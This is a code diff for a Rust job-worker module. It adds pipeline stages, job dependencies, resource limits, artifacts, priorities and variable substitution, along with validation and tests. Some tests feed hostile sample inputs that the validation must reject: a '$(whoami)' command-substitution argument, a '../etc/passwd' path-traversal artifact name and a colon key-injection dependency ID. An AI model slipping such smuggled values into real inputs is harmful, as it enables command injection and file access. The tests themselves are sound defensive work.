@@ -2,9 +2,13 @@
 #![allow(clippy::module_name_repetitions)]
 
 use crate::error::{AgwError, AgwResult};
+use crate::sandbox::{validate_limits, ResourceLimits};
+use crate::workspace::is_valid_artifact_name;
 use once_cell::sync::Lazy;
 use regex::Regex;
 use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use tracing::warn;
 
 /// Maximum length for job ID
 const MAX_JOB_ID_LEN: usize = 128;
@@ -18,8 +22,8 @@ const MAX_COMMAND_LEN: usize = 4096;
 const MAX_ARGS_COUNT: usize = 256;
 /// Maximum length for a single argument
 const MAX_ARG_LEN: usize = 4096;
-/// Maximum number of tasks in a plan
-const MAX_TASKS_COUNT: usize = 100;
+/// Maximum number of stages in a pipeline job
+const MAX_PIPELINE_STAGES: usize = 16;
 /// Minimum timeout in seconds
 const MIN_TIMEOUT_SECS: u32 = 1;
 /// Maximum timeout in seconds (24 hours)
@@ -38,6 +42,9 @@ const DANGEROUS_UNICODE: &[char] = &[
     '\u{FEFF}', // ZERO WIDTH NO-BREAK SPACE
 ];
 
+/// Command marking a job whose work is described by its `stages`
+pub const PIPELINE_COMMAND: &str = agenix_plan::PIPELINE_COMMAND;
+
 /// Job metadata (Execution Layer 3)
 ///
 /// A Job now represents a single Task execution instance.
@@ -61,6 +68,12 @@ pub struct Job {
     /// Command arguments
     pub args: Vec<String>,
 
+    /// Commands of a pipeline job, each reading the previous one's stdout
+    ///
+    /// Only used when `command` is [`PIPELINE_COMMAND`].
+    #[serde(default)]
+    pub stages: Vec<Stage>,
+
     /// Input data / Environment variables
     #[serde(default)]
     pub env: serde_json::Value,
@@ -72,12 +85,102 @@ pub struct Job {
     /// Required worker tags
     #[serde(default)]
     pub tags: Vec<String>,
+
+    /// IDs of upstream jobs whose stdout becomes this job's stdin
+    ///
+    /// AGQ derives these from the plan's `input_from_task` and `depends_on`
+    /// references.
+    #[serde(default)]
+    pub dependencies: Vec<String>,
+
+    /// Dependencies the job only waited for, from the plan's `depends_on`;
+    /// their stdout is not piped to it
+    #[serde(default)]
+    pub order_only: Vec<String>,
+
+    /// Resource limits requested for this job
+    ///
+    /// These can only tighten the worker's configured defaults.
+    #[serde(default)]
+    pub limits: ResourceLimits,
+
+    /// Execution timeout in seconds, from the plan task's `timeout_secs`
+    ///
+    /// Clamped to the worker's `max_job_timeout`.
+    #[serde(default)]
+    pub timeout_secs: Option<u32>,
+
+    /// Files the job writes to its workspace, uploaded after execution
+    #[serde(default)]
+    pub artifacts: Vec<String>,
+
+    /// Unix timestamp (seconds) at which AGQ created the job
+    #[serde(default)]
+    pub created_at: Option<u64>,
+
+    /// How many times the job may run when it fails for infrastructure
+    /// reasons, such as a missing binary or an OOM kill
+    ///
+    /// Unset means the job runs once.
+    #[serde(default)]
+    pub max_attempts: Option<u32>,
+
+    /// Scheduling priority, which decides the ready list the job is queued on
+    #[serde(default)]
+    pub priority: JobPriority,
+
+    /// Position among the jobs AGQ expanded a map task into
+    ///
+    /// The item itself is in `env` as `item`, for `${env.item}`.
+    #[serde(default)]
+    pub item_index: Option<u32>,
+}
+
+/// Scheduling priority of a job
+///
+/// AGQ keeps a ready list per priority, and workers drain them from highest
+/// to lowest so interactive plans are not starved behind batch work.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum JobPriority {
+    High,
+    #[default]
+    Normal,
+    Low,
+}
+
+impl JobPriority {
+    /// Priorities in the order workers take jobs from their ready lists
+    pub const ORDER: [Self; 3] = [Self::High, Self::Normal, Self::Low];
+
+    /// Ready list for this priority within a queue, e.g. `queue:default:high`
+    ///
+    /// Normal-priority jobs use the queue itself.
+    #[must_use]
+    pub fn queue_name(self, queue: &str) -> String {
+        match self {
+            Self::High => format!("{queue}:high"),
+            Self::Normal => queue.to_string(),
+            Self::Low => format!("{queue}:low"),
+        }
+    }
 }
 
 fn default_job_status() -> String {
     "pending".to_string()
 }
 
+/// A single command within a pipeline job
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct Stage {
+    /// Command to execute
+    pub command: String,
+
+    /// Command arguments
+    #[serde(default)]
+    pub args: Vec<String>,
+}
+
 /// Compiled regex pattern for {{input.field}} variable substitution
 /// Uses lazy static initialization for performance (compiled once, reused forever)
 static INPUT_PATTERN: Lazy<Regex> =
@@ -101,20 +204,7 @@ fn substitute_variables(text: &str, input: &serde_json::Value) -> AgwResult<Stri
 
         // Look up the field in input
         if let Some(value) = input.get(field_name) {
-            // Convert value to string
-            let replacement = match value {
-                serde_json::Value::String(s) => s.clone(),
-                serde_json::Value::Number(n) => n.to_string(),
-                serde_json::Value::Bool(b) => b.to_string(),
-                serde_json::Value::Null => String::new(),
-                _ => {
-                    return Err(AgwError::Worker(format!(
-                        "Input field '{}' has unsupported type (must be string, number, or boolean)",
-                        field_name
-                    )));
-                }
-            };
-
+            let replacement = json_value_to_arg(field_name, value)?;
             result = result.replace(full_match, &replacement);
         } else {
             missing_fields.push(field_name.to_string());
@@ -131,6 +221,91 @@ fn substitute_variables(text: &str, input: &serde_json::Value) -> AgwResult<Stri
     Ok(result)
 }
 
+/// Convert a JSON input value into an argument string
+///
+/// # Errors
+///
+/// Returns an error for arrays and objects, which have no unambiguous string form
+fn json_value_to_arg(field_name: &str, value: &serde_json::Value) -> AgwResult<String> {
+    match value {
+        serde_json::Value::String(s) => Ok(s.clone()),
+        serde_json::Value::Number(n) => Ok(n.to_string()),
+        serde_json::Value::Bool(b) => Ok(b.to_string()),
+        serde_json::Value::Null => Ok(String::new()),
+        _ => Err(AgwError::Worker(format!(
+            "Input field '{}' has unsupported type (must be string, number, or boolean)",
+            field_name
+        ))),
+    }
+}
+
+/// Compiled regex pattern for `${TASK_N_OUTPUT}` and `${env.KEY}` job variables
+static JOB_VARIABLE_PATTERN: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r"\$\{(?:TASK_([0-9]+)_OUTPUT|env\.([a-zA-Z0-9_]+))\}")
+        .expect("Invalid regex pattern")
+});
+
+/// Substitute `${TASK_N_OUTPUT}` and `${env.KEY}` variables in a string
+///
+/// Task outputs have trailing newlines stripped, matching shell command
+/// substitution. In strict mode any unresolved variable is an error; otherwise
+/// it expands to an empty string.
+///
+/// # Errors
+///
+/// Returns an error if a variable is unresolved in strict mode, or if an env
+/// value has an unsupported type
+fn substitute_job_variables(
+    text: &str,
+    env: &serde_json::Value,
+    task_outputs: &HashMap<u32, String>,
+    strict: bool,
+) -> AgwResult<String> {
+    let mut result = String::with_capacity(text.len());
+    let mut last_end = 0;
+    let mut unresolved = Vec::new();
+
+    for cap in JOB_VARIABLE_PATTERN.captures_iter(text) {
+        let full_match = cap.get(0).expect("capture group 0 always exists");
+        result.push_str(&text[last_end..full_match.start()]);
+        last_end = full_match.end();
+
+        let replacement = if let Some(task) = cap.get(1) {
+            task.as_str()
+                .parse::<u32>()
+                .ok()
+                .and_then(|n| task_outputs.get(&n))
+                .map(|output| output.trim_end_matches(['\n', '\r']).to_string())
+        } else {
+            let key = &cap[2];
+            env.get(key)
+                .map(|value| json_value_to_arg(key, value))
+                .transpose()?
+        };
+
+        match replacement {
+            Some(value) => result.push_str(&value),
+            None => unresolved.push(full_match.as_str().to_string()),
+        }
+    }
+    result.push_str(&text[last_end..]);
+
+    if !unresolved.is_empty() {
+        if strict {
+            return Err(AgwError::Worker(format!(
+                "Unresolved variables: {}",
+                unresolved.join(", ")
+            )));
+        }
+        warn!(
+            "Unresolved variables expanded to empty strings: {}",
+            unresolved.join(", ")
+        );
+    }
+
+    Ok(result)
+}
+
 impl Job {
     /// Parse a job from JSON string
     ///
@@ -161,201 +336,260 @@ impl Job {
             check_for_dangerous_patterns(arg, &format!("args[{i}]"))?;
         }
 
-        Ok(())
-    }
-}
-
-/// Execution plan containing multiple tasks (Execution Layer 2)
-///
-/// Plans are templates that can be reused across multiple Jobs.
-/// They define the ordered sequence of tasks to execute.
-#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
-#[allow(clippy::struct_field_names)] // Field names match schema specification
-pub struct Plan {
-    /// Stable plan identifier (reused across multiple job executions)
-    pub plan_id: String,
+        self.validate_stages()?;
 
-    /// Optional description of plan intent
-    #[serde(default, skip_serializing_if = "Option::is_none")]
-    pub plan_description: Option<String>,
-
-    /// Ordered list of tasks to execute
-    pub tasks: Vec<Task>,
-}
+        validate_limits(&self.limits)?;
+        validate_timeout(self.timeout_secs, self.task_number)?;
 
-/// A single task within an execution plan
-#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
-#[allow(clippy::struct_field_names)] // Field names match schema specification
-pub struct Task {
-    /// 1-based task number (must be contiguous)
-    pub task_number: u32,
-
-    /// Command to execute (e.g., "sort", "uniq", "agx-ocr")
-    pub command: String,
-
-    /// Command arguments
-    #[serde(default)]
-    pub args: Vec<String>,
-
-    /// Optional reference to a previous task whose stdout becomes this task's stdin
-    #[serde(skip_serializing_if = "Option::is_none")]
-    pub input_from_task: Option<u32>,
+        for name in &self.artifacts {
+            if !is_valid_artifact_name(name) {
+                return Err(AgwError::Worker(format!(
+                    "Invalid artifact name for job {}: {name:?}",
+                    self.id
+                )));
+            }
+        }
 
-    /// Optional per-task timeout in seconds
-    #[serde(skip_serializing_if = "Option::is_none")]
-    pub timeout_secs: Option<u32>,
-}
+        self.validate_dependencies()
+    }
 
-impl Plan {
-    /// Parse a plan from JSON string
+    /// Ready list AGQ routes the job to, from its required tags and priority
     ///
-    /// # Errors
-    ///
-    /// Returns an error if the JSON is invalid or doesn't match the Plan schema
-    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
-        serde_json::from_str(json)
+    /// Jobs that go back on the queue are pushed here, so only workers with
+    /// the job's tags pick them up again.
+    #[must_use]
+    pub fn ready_queue(&self) -> String {
+        let requirements = agenix_queue::requirements(&self.tags);
+        self.priority
+            .queue_name(&agenix_queue::queue_for(&requirements))
     }
 
-    /// Serialize plan to JSON string
-    ///
-    /// # Errors
-    ///
-    /// Returns an error if serialization fails
-    #[allow(dead_code)] // Used in tests
-    pub fn to_json(&self) -> Result<String, serde_json::Error> {
-        serde_json::to_string(self)
+    /// Whether the job runs its `stages` as a pipeline
+    #[must_use]
+    pub fn is_pipeline(&self) -> bool {
+        self.command == PIPELINE_COMMAND
     }
 
-    /// Validate the plan structure and all tasks
-    ///
-    /// # Errors
+    /// Commands the job runs, with their arguments
     ///
-    /// Returns an error if:
-    /// - Any field contains dangerous patterns
-    /// - Tasks are empty or exceed maximum count
-    /// - Task numbers are not contiguous starting at 1
-    /// - `input_from_task` references are invalid
-    pub fn validate(&self) -> AgwResult<()> {
-        // Validate plan_id
-        validate_string_field(&self.plan_id, "plan_id", MAX_PLAN_ID_LEN, true)?;
-
-        // Validate plan_description if present
-        if let Some(desc) = &self.plan_description {
-            validate_string_field(desc, "plan_description", MAX_PLAN_DESCRIPTION_LEN, false)?;
+    /// For a pipeline these are its stages, otherwise the job's own command.
+    #[must_use]
+    pub fn invocations(&self) -> Vec<(&str, &[String])> {
+        if self.is_pipeline() {
+            self.stages
+                .iter()
+                .map(|stage| (stage.command.as_str(), stage.args.as_slice()))
+                .collect()
+        } else {
+            vec![(self.command.as_str(), self.args.as_slice())]
         }
+    }
 
-        // Validate tasks array
-        if self.tasks.is_empty() {
-            return Err(AgwError::Worker(
-                "Plan must contain at least one task".to_string(),
-            ));
+    fn validate_stages(&self) -> AgwResult<()> {
+        if !self.is_pipeline() {
+            if self.stages.is_empty() {
+                return Ok(());
+            }
+            return Err(AgwError::Worker(format!(
+                "Job {} has stages but its command is not '{PIPELINE_COMMAND}'",
+                self.id
+            )));
         }
 
-        if self.tasks.len() > MAX_TASKS_COUNT {
+        if self.stages.is_empty() || self.stages.len() > MAX_PIPELINE_STAGES {
             return Err(AgwError::Worker(format!(
-                "Plan exceeds maximum of {MAX_TASKS_COUNT} tasks"
+                "Pipeline job {} must have 1-{MAX_PIPELINE_STAGES} stages, got {}",
+                self.id,
+                self.stages.len()
             )));
         }
 
-        // Validate task numbers are contiguous starting at 1
-        for (index, task) in self.tasks.iter().enumerate() {
-            let expected_task_number = u32::try_from(index + 1)
-                .map_err(|_| AgwError::Worker("Task index overflow".to_string()))?;
-            if task.task_number != expected_task_number {
+        for (i, stage) in self.stages.iter().enumerate() {
+            let field = format!("stages[{i}]");
+            validate_string_field(
+                &stage.command,
+                &format!("{field}.command"),
+                MAX_COMMAND_LEN,
+                false,
+            )?;
+            check_for_dangerous_patterns(&stage.command, &format!("{field}.command"))?;
+            if stage.command == PIPELINE_COMMAND {
                 return Err(AgwError::Worker(format!(
-                    "Task numbers must be contiguous starting at 1: expected {expected_task_number}, got {}",
-                    task.task_number
+                    "{field} of job {} cannot be a nested pipeline",
+                    self.id
                 )));
             }
 
-            // Validate the task itself
-            task.validate()?;
-
-            // Validate input_from_task references
-            if let Some(ref_task) = task.input_from_task {
-                if ref_task == 0 {
-                    return Err(AgwError::Worker("input_from_task must be >= 1".to_string()));
-                }
-                if ref_task >= task.task_number {
-                    return Err(AgwError::Worker(format!(
-                        "Task {} has invalid input_from_task {}: cannot reference self or future tasks",
-                        task.task_number, ref_task
-                    )));
-                }
+            for (j, arg) in stage.args.iter().enumerate() {
+                validate_string_field(arg, &format!("{field}.args[{j}]"), MAX_ARG_LEN, false)?;
+                check_for_dangerous_patterns(arg, &format!("{field}.args[{j}]"))?;
             }
         }
 
         Ok(())
     }
-}
 
-impl Task {
-    /// Substitute input variables in task arguments
+    /// Validate dependency job IDs
     ///
-    /// Replaces {{input.field}} patterns with values from the job input data.
-    /// For example, "{{input.path}}" becomes "/tmp" if job.input = {"path": "/tmp"}
+    /// Dependency IDs are used to build AGQ keys, so they must be checked
+    /// before any dependency lookup, ahead of full validation.
     ///
     /// # Errors
     ///
-    /// Returns an error if a referenced field doesn't exist in the input data
-    pub fn substitute_input(&self, input: &serde_json::Value) -> AgwResult<Self> {
-        let mut substituted_args = Vec::new();
-
-        for arg in &self.args {
-            let substituted_arg = substitute_variables(arg, input)?;
-            substituted_args.push(substituted_arg);
+    /// Returns an error if an ID is empty, too long, or contains key separators
+    pub fn validate_dependencies(&self) -> AgwResult<()> {
+        for (i, dep) in self.dependencies.iter().enumerate() {
+            validate_string_field(dep, &format!("dependencies[{i}]"), MAX_JOB_ID_LEN, true)?;
+            if dep.contains(':') {
+                return Err(AgwError::Worker(format!(
+                    "dependencies[{i}] cannot contain colons"
+                )));
+            }
         }
 
-        Ok(Self {
-            task_number: self.task_number,
-            command: self.command.clone(),
-            args: substituted_args,
-            input_from_task: self.input_from_task,
-            timeout_secs: self.timeout_secs,
-        })
+        Ok(())
     }
 
-    /// Validate the task fields
+    /// Substitute job variables in arguments, including pipeline stage arguments
+    ///
+    /// Resolves `${env.KEY}` from the job's env and `${TASK_N_OUTPUT}` from
+    /// the stdout of dependency task N. Substituted values may introduce shell
+    /// metacharacters, so the job must be validated afterwards.
     ///
     /// # Errors
     ///
-    /// Returns an error if any field contains dangerous patterns or exceeds limits
-    pub fn validate(&self) -> AgwResult<()> {
-        // Validate command
-        validate_string_field(&self.command, "command", MAX_COMMAND_LEN, false)?;
-        check_for_dangerous_patterns(&self.command, "command")?;
+    /// Returns an error if a variable cannot be resolved in strict mode
+    pub fn substitute_variables(
+        &self,
+        task_outputs: &HashMap<u32, String>,
+        strict: bool,
+    ) -> AgwResult<Self> {
+        let substitute = |args: &[String]| {
+            args.iter()
+                .map(|arg| substitute_job_variables(arg, &self.env, task_outputs, strict))
+                .collect::<AgwResult<Vec<_>>>()
+        };
+
+        let args = substitute(&self.args)?;
+        let stages = self
+            .stages
+            .iter()
+            .map(|stage| {
+                Ok(Stage {
+                    command: stage.command.clone(),
+                    args: substitute(&stage.args)?,
+                })
+            })
+            .collect::<AgwResult<Vec<_>>>()?;
+
+        Ok(Self {
+            args,
+            stages,
+            ..self.clone()
+        })
+    }
+}
+
+/// Execution plan containing multiple tasks (Execution Layer 2), and a
+/// single task within one, as defined by the shared Plan schema
+pub use agenix_plan::{Plan, Task};
 
-        // Validate arguments
-        if self.args.len() > MAX_ARGS_COUNT {
+/// Validate a plan before running it locally
+///
+/// # Errors
+///
+/// Returns an error if:
+/// - The plan does not meet the shared Plan schema, e.g. its
+///   `schema_version` is newer than this worker supports or its tasks are
+///   not numbered 1, 2, 3, … in order
+/// - Any field contains dangerous patterns
+pub fn validate_plan(plan: &Plan) -> AgwResult<()> {
+    let errors = plan.check();
+    if !errors.is_empty() {
+        let errors: Vec<String> = errors.iter().map(ToString::to_string).collect();
+        return Err(AgwError::Worker(format!(
+            "Invalid plan: {}",
+            errors.join("; ")
+        )));
+    }
+
+    // Validate plan_id if present
+    if let Some(plan_id) = &plan.plan_id {
+        validate_string_field(plan_id, "plan_id", MAX_PLAN_ID_LEN, true)?;
+    }
+
+    // Validate plan_description if present
+    if let Some(desc) = &plan.plan_description {
+        validate_string_field(desc, "plan_description", MAX_PLAN_DESCRIPTION_LEN, false)?;
+    }
+
+    plan.tasks.iter().try_for_each(validate_task)
+}
+
+/// Substitute input variables in task arguments
+///
+/// Replaces {{input.field}} patterns with values from the job input data.
+/// For example, "{{input.path}}" becomes "/tmp" if job.input = {"path": "/tmp"}
+///
+/// # Errors
+///
+/// Returns an error if a referenced field doesn't exist in the input data
+pub fn substitute_input(task: &Task, input: &serde_json::Value) -> AgwResult<Task> {
+    let args = task
+        .args
+        .iter()
+        .map(|arg| substitute_variables(arg, input))
+        .collect::<AgwResult<Vec<_>>>()?;
+
+    Ok(Task {
+        args,
+        ..task.clone()
+    })
+}
+
+/// Validate the task fields
+///
+/// # Errors
+///
+/// Returns an error if any field contains dangerous patterns or exceeds limits
+pub fn validate_task(task: &Task) -> AgwResult<()> {
+    // Validate command
+    validate_string_field(&task.command, "command", MAX_COMMAND_LEN, false)?;
+    check_for_dangerous_patterns(&task.command, "command")?;
+
+    // Validate arguments
+    if task.args.len() > MAX_ARGS_COUNT {
+        return Err(AgwError::Worker(format!(
+            "Task {} exceeds maximum of {MAX_ARGS_COUNT} arguments",
+            task.task_number
+        )));
+    }
+
+    for (i, arg) in task.args.iter().enumerate() {
+        validate_string_field(arg, &format!("args[{i}]"), MAX_ARG_LEN, false)?;
+        check_for_dangerous_patterns(arg, &format!("args[{i}]"))?;
+    }
+
+    // Validate timeout if present
+    validate_timeout(task.timeout_secs, task.task_number)
+}
+
+/// Validate an optional task timeout against the allowed range
+fn validate_timeout(timeout_secs: Option<u32>, task_number: u32) -> AgwResult<()> {
+    if let Some(timeout) = timeout_secs {
+        if timeout < MIN_TIMEOUT_SECS {
             return Err(AgwError::Worker(format!(
-                "Task {} exceeds maximum of {MAX_ARGS_COUNT} arguments",
-                self.task_number
+                "Task {task_number} timeout must be at least {MIN_TIMEOUT_SECS} seconds"
             )));
         }
-
-        for (i, arg) in self.args.iter().enumerate() {
-            validate_string_field(arg, &format!("args[{i}]"), MAX_ARG_LEN, false)?;
-            check_for_dangerous_patterns(arg, &format!("args[{i}]"))?;
-        }
-
-        // Validate timeout if present
-        if let Some(timeout) = self.timeout_secs {
-            if timeout < MIN_TIMEOUT_SECS {
-                return Err(AgwError::Worker(format!(
-                    "Task {} timeout must be at least {MIN_TIMEOUT_SECS} seconds",
-                    self.task_number
-                )));
-            }
-            if timeout > MAX_TIMEOUT_SECS {
-                return Err(AgwError::Worker(format!(
-                    "Task {} timeout must not exceed {MAX_TIMEOUT_SECS} seconds",
-                    self.task_number
-                )));
-            }
+        if timeout > MAX_TIMEOUT_SECS {
+            return Err(AgwError::Worker(format!(
+                "Task {task_number} timeout must not exceed {MAX_TIMEOUT_SECS} seconds"
+            )));
         }
-
-        Ok(())
     }
+
+    Ok(())
 }
 
 /// Validate a string field for length and dangerous characters
@@ -430,7 +664,7 @@ mod tests {
     #[test]
     fn test_plan_creation() {
         let plan = Plan {
-            plan_id: "plan-456".to_string(),
+            plan_id: Some("plan-456".to_string()),
             plan_description: Some("Test plan".to_string()),
             tasks: vec![Task {
                 task_number: 1,
@@ -438,17 +672,19 @@ mod tests {
                 args: vec!["hello".to_string()],
                 input_from_task: None,
                 timeout_secs: Some(30),
+                ..Task::default()
             }],
+            ..Plan::default()
         };
 
-        assert_eq!(plan.plan_id, "plan-456");
+        assert_eq!(plan.plan_id.as_deref(), Some("plan-456"));
         assert_eq!(plan.tasks.len(), 1);
     }
 
     #[test]
     fn test_plan_json_serialization() {
         let plan = Plan {
-            plan_id: "plan-456".to_string(),
+            plan_id: Some("plan-456".to_string()),
             plan_description: None,
             tasks: vec![Task {
                 task_number: 1,
@@ -456,18 +692,20 @@ mod tests {
                 args: vec!["-la".to_string()],
                 input_from_task: None,
                 timeout_secs: Some(30),
+                ..Task::default()
             }],
+            ..Plan::default()
         };
 
-        let json = plan.to_json().unwrap();
-        let parsed = Plan::from_json(&json).unwrap();
+        let json = serde_json::to_string(&plan).unwrap();
+        let parsed = agenix_plan::parse(&json).unwrap();
         assert_eq!(plan, parsed);
     }
 
     #[test]
     fn test_plan_with_multiple_steps() {
         let plan = Plan {
-            plan_id: "plan-456".to_string(),
+            plan_id: Some("plan-456".to_string()),
             plan_description: Some("Multi-step plan".to_string()),
             tasks: vec![
                 Task {
@@ -476,6 +714,7 @@ mod tests {
                     args: vec!["-r".to_string()],
                     input_from_task: None,
                     timeout_secs: Some(30),
+                    ..Task::default()
                 },
                 Task {
                     task_number: 2,
@@ -483,8 +722,10 @@ mod tests {
                     args: vec![],
                     input_from_task: Some(1),
                     timeout_secs: Some(30),
+                    ..Task::default()
                 },
             ],
+            ..Plan::default()
         };
 
         assert_eq!(plan.tasks.len(), 2);
@@ -494,7 +735,7 @@ mod tests {
     #[test]
     fn test_plan_validation_success() {
         let plan = Plan {
-            plan_id: "plan-456".to_string(),
+            plan_id: Some("plan-456".to_string()),
             plan_description: Some("Valid plan".to_string()),
             tasks: vec![
                 Task {
@@ -503,6 +744,7 @@ mod tests {
                     args: vec!["test".to_string()],
                     input_from_task: None,
                     timeout_secs: Some(30),
+                    ..Task::default()
                 },
                 Task {
                     task_number: 2,
@@ -510,28 +752,48 @@ mod tests {
                     args: vec!["-l".to_string()],
                     input_from_task: Some(1),
                     timeout_secs: Some(30),
+                    ..Task::default()
                 },
             ],
+            ..Plan::default()
         };
 
-        assert!(plan.validate().is_ok());
+        assert!(validate_plan(&plan).is_ok());
     }
 
     #[test]
     fn test_plan_validation_empty_tasks() {
         let plan = Plan {
-            plan_id: "plan-456".to_string(),
+            plan_id: Some("plan-456".to_string()),
             plan_description: None,
             tasks: vec![],
+            ..Plan::default()
         };
 
-        assert!(plan.validate().is_err());
+        assert!(validate_plan(&plan).is_err());
+    }
+
+    #[test]
+    fn test_plan_validation_newer_schema_version() {
+        let plan: Plan = serde_json::from_str(
+            r#"{"schema_version": 2, "plan_id": "plan-456",
+                "tasks": [{"task_number": 1, "command": "ls"}]}"#,
+        )
+        .unwrap();
+
+        let err = validate_plan(&plan).unwrap_err().to_string();
+        assert!(err.contains("only version 1 is supported"), "{err}");
+        assert!(validate_plan(&Plan {
+            schema_version: 1,
+            ..plan
+        })
+        .is_ok());
     }
 
     #[test]
     fn test_plan_validation_non_contiguous_tasks() {
         let plan = Plan {
-            plan_id: "plan-456".to_string(),
+            plan_id: Some("plan-456".to_string()),
             plan_description: None,
             tasks: vec![
                 Task {
@@ -540,6 +802,7 @@ mod tests {
                     args: vec![],
                     input_from_task: None,
                     timeout_secs: None,
+                    ..Task::default()
                 },
                 Task {
                     task_number: 3, // Skip 2
@@ -547,17 +810,19 @@ mod tests {
                     args: vec![],
                     input_from_task: None,
                     timeout_secs: None,
+                    ..Task::default()
                 },
             ],
+            ..Plan::default()
         };
 
-        assert!(plan.validate().is_err());
+        assert!(validate_plan(&plan).is_err());
     }
 
     #[test]
     fn test_plan_validation_invalid_input_from_task() {
         let plan = Plan {
-            plan_id: "plan-456".to_string(),
+            plan_id: Some("plan-456".to_string()),
             plan_description: None,
             tasks: vec![
                 Task {
@@ -566,6 +831,7 @@ mod tests {
                     args: vec![],
                     input_from_task: None,
                     timeout_secs: None,
+                    ..Task::default()
                 },
                 Task {
                     task_number: 2,
@@ -573,11 +839,13 @@ mod tests {
                     args: vec![],
                     input_from_task: Some(2), // Cannot reference self
                     timeout_secs: None,
+                    ..Task::default()
                 },
             ],
+            ..Plan::default()
         };
 
-        assert!(plan.validate().is_err());
+        assert!(validate_plan(&plan).is_err());
     }
 
     #[test]
@@ -588,9 +856,108 @@ mod tests {
             args: vec![],
             input_from_task: None,
             timeout_secs: None,
+            ..Task::default()
         };
 
-        assert!(task.validate().is_err());
+        assert!(validate_task(&task).is_err());
+    }
+
+    #[test]
+    fn test_job_dependencies_from_agq_json() {
+        let json = r#"{
+            "id": "job_b",
+            "action_id": "action-1",
+            "plan_id": "plan-1",
+            "task_number": 2,
+            "command": "sort",
+            "args": [],
+            "dependencies": ["job_a"],
+            "dependents": []
+        }"#;
+
+        let job = Job::from_json(json).unwrap();
+        assert_eq!(job.dependencies, vec!["job_a".to_string()]);
+        assert!(job.order_only.is_empty());
+        assert!(job.validate().is_ok());
+    }
+
+    #[test]
+    fn test_job_dependencies_default_empty() {
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"echo","args":[]}"#;
+        let job = Job::from_json(json).unwrap();
+        assert!(job.dependencies.is_empty());
+    }
+
+    #[test]
+    fn test_job_validation_dependency_key_injection() {
+        let json = r#"{"id":"job_b","action_id":"a","plan_id":"p","task_number":2,"command":"sort","args":[],"dependencies":["job_a:status"]}"#;
+        let job = Job::from_json(json).unwrap();
+        assert!(job.validate().is_err());
+    }
+
+    #[test]
+    fn test_job_limits_from_json() {
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"echo","args":[],"limits":{"memory_mb":256,"max_processes":16}}"#;
+        let job = Job::from_json(json).unwrap();
+        assert_eq!(job.limits.memory_mb, Some(256));
+        assert_eq!(job.limits.cpu_secs, None);
+        assert_eq!(job.limits.max_processes, Some(16));
+        assert!(job.validate().is_ok());
+    }
+
+    #[test]
+    fn test_job_validation_zero_limit() {
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"echo","args":[],"limits":{"cpu_secs":0}}"#;
+        let job = Job::from_json(json).unwrap();
+        assert!(job.validate().is_err());
+    }
+
+    #[test]
+    fn test_job_validation_artifact_names() {
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"echo","args":[],"artifacts":["out.png"]}"#;
+        assert!(Job::from_json(json).unwrap().validate().is_ok());
+
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"echo","args":[],"artifacts":["../etc/passwd"]}"#;
+        assert!(Job::from_json(json).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn test_job_timeout_from_json() {
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"sleep","args":["10"],"timeout_secs":5}"#;
+        let job = Job::from_json(json).unwrap();
+        assert_eq!(job.timeout_secs, Some(5));
+        assert!(job.validate().is_ok());
+
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"sleep","args":["10"],"timeout_secs":0}"#;
+        assert!(Job::from_json(json).unwrap().validate().is_err());
+    }
+
+    #[test]
+    fn test_pipeline_job_from_json() {
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"pipeline","args":[],"stages":[{"command":"sort"},{"command":"uniq","args":["-c"]}]}"#;
+        let job = Job::from_json(json).unwrap();
+        assert!(job.is_pipeline());
+        assert!(job.validate().is_ok());
+        assert_eq!(
+            job.invocations(),
+            vec![("sort", &[][..]), ("uniq", &["-c".to_string()][..])]
+        );
+    }
+
+    #[test]
+    fn test_pipeline_job_validation() {
+        // A pipeline needs stages, and only pipelines may have them
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"pipeline","args":[]}"#;
+        assert!(Job::from_json(json).unwrap().validate().is_err());
+
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"sort","args":[],"stages":[{"command":"uniq"}]}"#;
+        assert!(Job::from_json(json).unwrap().validate().is_err());
+
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"pipeline","args":[],"stages":[{"command":"pipeline"}]}"#;
+        assert!(Job::from_json(json).unwrap().validate().is_err());
+
+        let json = r#"{"id":"job_a","action_id":"a","plan_id":"p","task_number":1,"command":"pipeline","args":[],"stages":[{"command":"grep","args":["$(whoami)"]}]}"#;
+        assert!(Job::from_json(json).unwrap().validate().is_err());
     }
 
     #[test]
@@ -601,9 +968,10 @@ mod tests {
             args: vec!["10".to_string()],
             input_from_task: None,
             timeout_secs: Some(0),
+            ..Task::default()
         };
 
-        assert!(task.validate().is_err());
+        assert!(validate_task(&task).is_err());
     }
 
     // ===== Unit tests for substitute_variables() =====
@@ -736,10 +1104,11 @@ mod tests {
             args: vec!["{{input.path}}".to_string(), "-n".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let input = json!({"path": "/tmp/test.txt"});
-        let result = task.substitute_input(&input).unwrap();
+        let result = substitute_input(&task, &input).unwrap();
 
         assert_eq!(result.args[0], "/tmp/test.txt");
         assert_eq!(result.args[1], "-n");
@@ -754,15 +1123,136 @@ mod tests {
             args: vec!["{{input.src}}".to_string(), "{{input.dest}}".to_string()],
             input_from_task: None,
             timeout_secs: Some(30),
+            ..Task::default()
         };
 
         let input = json!({"src": "/tmp/a", "dest": "/tmp/b"});
-        let result = task.substitute_input(&input).unwrap();
